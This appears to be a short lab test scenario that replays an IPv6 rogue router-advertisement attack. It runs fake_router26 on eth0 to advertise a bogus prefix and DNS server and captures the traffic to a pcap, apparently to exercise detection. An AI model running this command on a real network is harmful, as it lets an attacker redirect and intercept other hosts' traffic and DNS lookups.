# a host advertises a prefix and a DNS server as router
. "$here/scenarios/attack.inc"
attack_ground attack-fake_router26.pcap 300
attack fake_router26 -A 2001:db8:bad::/64 -D 2001:db8:bad::53 -i 1 eth0
lab_wait
